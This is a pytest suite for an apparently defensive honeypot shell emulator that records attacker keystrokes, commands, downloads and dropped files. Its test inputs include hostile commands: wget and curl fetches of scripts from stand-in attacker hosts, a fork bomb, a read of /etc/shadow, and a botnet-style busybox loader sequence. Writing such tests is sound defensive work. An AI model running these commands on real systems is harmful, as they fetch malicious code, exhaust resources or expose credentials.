import pytest

from decnet_actors.contracts.decoy import HangUp, Note, Send
from decnet_actors.contracts.machine import Pty
from decnet_actors.domain.facts import (
    Direction,
    DownloadRequested,
    FileCaptured,
    ShellCommandSeen,
    TerminalResized,
    TerminalSeen,
)
from decnet_actors.machine.shell.state import Limits
from decnet_actors.machine.terminal import MAX_TYPE_AHEAD
from tests.decnet_actors.machine.shells import Visitor, machine, run

DUMB = Pty(term="dumb")


def visitor(host=None, **options) -> Visitor:
    seat = Visitor(host or machine(), pty=DUMB, **options).open()
    seat.settle()
    return seat


def prompt(host) -> bytes:
    return f"root@{host.persona.hostname}:~# ".encode()


def test_a_login_shows_banner_and_prompt():
    host = machine()
    seat = visitor(host)

    assert seat.output.startswith(f"Linux {host.persona.hostname} {host.persona.kernel} ".encode())
    assert seat.output.endswith(prompt(host))
    assert b"\n" not in seat.output.replace(b"\r\n", b"")


def test_a_command_is_echoed_run_and_recorded():
    host = machine()
    seat = visitor(host)

    assert seat.type("echo hi\r") == b"echo hi\r\nhi\r\n" + prompt(host)
    assert ShellCommandSeen(line="echo hi", interactive=True, cwd="/root", user="root") in seat.facts


def test_a_users_prompt_ends_in_a_dollar():
    host = machine()
    person = host.persona.accounts[-1]
    seat = visitor(host, user=person.name)

    assert seat.output.endswith(f"{person.name}@{host.persona.hostname}:~$ ".encode())
    assert b"Permission denied" in seat.type("cat /etc/shadow\r")


@pytest.mark.parametrize(
    ("keys", "line"),
    [
        ("echx\x7fo a\r", "echo a"),
        ("junk\x15echo b\r", "echo b"),
        ("echo junk\x17c\r", "echo c"),
        ("cho d\x01e\r", "echo d"),
        ("cho e\x1b[He\r", "echo e"),
        ("ech f\x1b[D\x1b[Do\r", "echo f"),
        ("echo gh\x1b[D\x1b[3~\r", "echo g"),
        ("echo i\x0b\n", "echo i"),
        ("echo \u00e9\u00e8\x7f\r", "echo \u00e9"),
    ],
)
def test_editing_keys(keys, line):
    seat = visitor()
    seat.type(keys)

    assert line in [fact.line for fact in seat.facts if isinstance(fact, ShellCommandSeen)]


def test_history_comes_back_with_the_arrow():
    seat = visitor()
    seat.type("echo first\r")

    assert b"first\r\n" in seat.type("\x1b[A\r")
    assert [f.line for f in seat.facts if isinstance(f, ShellCommandSeen)] == ["echo first", "echo first"]


def test_tab_completes_paths_and_commands():
    seat = visitor()

    assert b"hostname" in seat.type("cat /etc/hostn\t")
    seat.type("\r")
    assert ShellCommandSeen(line="cat /etc/hostname ", interactive=True, cwd="/root", user="root") in seat.facts


def test_sleep_takes_its_time():
    host = machine()
    seat = visitor(host)
    before = seat.now
    seat.take(seat.terminal.received(b"sleep 5; echo woke\r", seat.now))

    assert b"\nwoke" not in seat.output
    seat.settle()
    assert b"\nwoke" in seat.output
    assert seat.now == pytest.approx(before + 5)


def test_control_c_ends_a_sleep_with_130():
    host = machine()
    seat = visitor(host)
    seat.take(seat.terminal.received(b"sleep 100\r", seat.now))
    seat.now += 1
    seat.wake = float("inf")

    assert seat.type(b"\x03") == b"^C\r\n" + prompt(host)
    assert seat.type("echo $?\r").startswith(b"echo $?\r\n130\r\n")


def test_control_c_ends_an_endless_loop():
    host = machine()
    seat = visitor(host)
    seat.take(seat.terminal.received(b"while true; do :; done\r", seat.now))
    for _ in range(20):
        seat.now = seat.wake
        seat.take(seat.terminal.tick(seat.now))

    assert b"^C" in seat.type(b"\x03")
    assert seat.output.endswith(prompt(host))


def test_control_c_at_the_prompt_drops_the_line():
    host = machine()
    seat = visitor(host)

    assert seat.type("rm -rf\x03") == b"rm -rf^C\r\n" + prompt(host)


def test_control_d_logs_out():
    seat = visitor()
    seat.type(b"\x04")

    assert seat.ended
    assert seat.output.endswith(b"logout\r\n")
    assert seat.terminal.status == 0


def test_exit_has_its_status():
    seat = visitor()
    seat.type("exit 3\r")

    assert seat.ended
    assert seat.terminal.status == 3
    assert isinstance(seat.effects[-1], HangUp)


def test_cat_reads_what_is_typed_until_control_d():
    host = machine()
    seat = visitor(host)
    seat.type("cat > /tmp/note\r")
    seat.type("one\r")
    seat.type("twx\x7fo\r")
    seat.type(b"\x04")

    assert host.files.read("/tmp/note") == b"one\ntwo\n"
    assert seat.output.endswith(prompt(host))


def test_an_unfinished_command_gets_the_second_prompt():
    seat = visitor()

    assert seat.type("for i in 1 2\r").endswith(b"> ")
    assert b"1\r\n2\r\n" in seat.type("do echo $i; done\r")


def test_a_syntax_error_is_told_and_survived():
    seat = visitor()

    assert b"-bash: syntax error near unexpected token `|'" in seat.type("echo a | | b\r")
    assert b"ok" in seat.type("echo ok\r")


def test_a_pasted_script_runs_line_by_line():
    seat = visitor()
    seat.type("cd /tmp\recho x > y\rls\rcat y\r")

    assert [f.line for f in seat.facts if isinstance(f, ShellCommandSeen)] == ["cd /tmp", "echo x > y", "ls", "cat y"]


def test_everything_shown_and_typed_is_in_the_record():
    seat = visitor()
    seat.type("id\r")
    shown = b"".join(f.data for f in seat.facts if isinstance(f, TerminalSeen) and f.direction is Direction.OUT)
    typed = b"".join(f.data for f in seat.facts if isinstance(f, TerminalSeen) and f.direction is Direction.IN)

    assert seat.output == shown
    assert typed == b"id\r"
    assert isinstance(seat.facts[0], TerminalResized)


def test_the_command_is_recorded_before_its_output_leaves():
    seat = visitor()
    effects = list(seat.terminal.received(b"uname\r", seat.now))
    kinds = [type(e.fact) if isinstance(e, Note) else type(e) for e in effects]

    assert kinds.index(ShellCommandSeen) < kinds.index(Send)


def test_passwords_are_not_echoed():
    seat = visitor()
    seat.type("passwd\r")
    first = seat.type("s3cret\r")

    assert b"s3cret" not in first
    assert b"updated successfully" in seat.type("s3cret\r")


def test_paste_brackets_on_a_capable_terminal():
    host = machine()
    seat = Visitor(host, pty=Pty(term="xterm-256color")).open()

    assert seat.output.endswith(b"\x1b[?2004h" + prompt(host))
    assert seat.type("id\r").startswith(b"id\r\n\x1b[?2004l\r")


def test_a_resize_is_recorded_and_believed():
    seat = visitor()
    seat.take(seat.terminal.resized(Pty(columns=132, rows=50), seat.now))

    assert b"132" in seat.type("echo $COLUMNS\r")


def test_type_ahead_is_bounded():
    seat = visitor()
    seat.take(seat.terminal.received(b"sleep 5\r", seat.now))
    for _ in range(200):
        seat.take(seat.terminal.received(b"x" * 10_000, seat.now))

    assert len(seat.terminal._typed) <= MAX_TYPE_AHEAD


def test_jobs_run_behind_the_prompt():
    host = machine()
    seat = visitor(host)
    out = seat.type("sleep 2 && echo done-later &\r")

    assert out.startswith(b"sleep 2 && echo done-later &\r\n[1] ")
    assert b"done-later" in seat.output
    assert b"[1]+  Done" in seat.type("\r")


def test_an_exec_reads_its_input_to_the_end():
    host = machine()
    got = run(host, "cat > /tmp/dropped; wc -c < /tmp/dropped", stdin=b"\x7fELF" + b"\0" * 96)

    assert got.output == b"100\n"
    assert got.status == 0
    captured = next(fact for fact in got.facts if isinstance(fact, FileCaptured))
    assert (captured.path, captured.size, captured.mechanism) == ("/tmp/dropped", 100, "redirect")
    assert got.artifacts == [b"\x7fELF" + b"\0" * 96]


def test_an_exec_of_nonsense():
    got = run(machine(), "nonsense --flag")

    assert (got.output, got.status) == (b"bash: line 1: nonsense: command not found\n", 127)


def test_old_bash_names_no_line():
    assert run(machine(distribution="ubuntu:20.04"), "nonsense").output == b"bash: nonsense: command not found\n"


def test_a_shell_without_a_terminal_shows_no_prompt():
    seat = Visitor(machine()).open()

    assert seat.type("echo a\necho b\n") == b"a\nb\n"
    seat.close()
    assert seat.ended


def test_files_survive_the_session():
    host = machine()
    run(host, "echo kept > /tmp/x")

    assert run(host, "cat /tmp/x").output == b"kept\n"


def test_appending_captures_the_whole_once_it_matters():
    host = machine()
    seat = visitor(host)
    seat.type("echo -n one > /tmp/b\recho -n two >> /tmp/b\recho -n three >> /tmp/b\r")
    seat.type("chmod +x /tmp/b\r")

    assert b"onetwothree" in seat.artifacts


@pytest.mark.parametrize("fetch", ["wget http://198.51.100.7/x.sh", "curl -O http://198.51.100.7/x.sh"])
def test_a_download_is_recorded_and_times_out(fetch):
    got = run(machine(), fetch)

    assert any(isinstance(f, DownloadRequested) and f.url == "http://198.51.100.7/x.sh" for f in got.facts)
    assert b"timed out" in got.output or b"Couldn't connect" in got.output
    assert got.seconds > 5
    assert got.status in {4, 28}


def test_a_name_is_not_resolved():
    got = run(machine(), "wget http://evil.example/x")

    assert b"Resolving evil.example (evil.example)... failed: Temporary failure in name resolution.\n" in got.output
    assert got.status == 4


def test_a_fork_bomb_ends():
    got = run(machine(limits=Limits(steps=3000)), ":(){ :|:& };:; echo alive")

    assert got.ended


def test_the_loader_dialogue_of_a_bot():
    host = machine()
    seat = visitor(host, service="telnet")
    seat.type("enable\rsystem\rshell\rsh\r")

    assert b"ECCHI: applet not found" in seat.type("/bin/busybox ECCHI\r")
    assert b"ext4" in seat.type("cat /proc/mounts\r")
    seat.type("cp /bin/echo dvrHelper; >dvrHelper; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI\r")
    assert host.files.read("/root/dvrHelper") == b""
    assert b"\x7fELF\x02\x01\x01" in seat.type("/bin/busybox cat /bin/echo\r")


def test_a_command_with_a_terminal_gets_carriage_returns():
    seat = Visitor(machine(), command="echo a; ps", pty=DUMB).open()

    assert seat.ended
    assert seat.output.startswith(b"a\r\n    PID TTY")
    assert b" ps\r\n" in seat.output
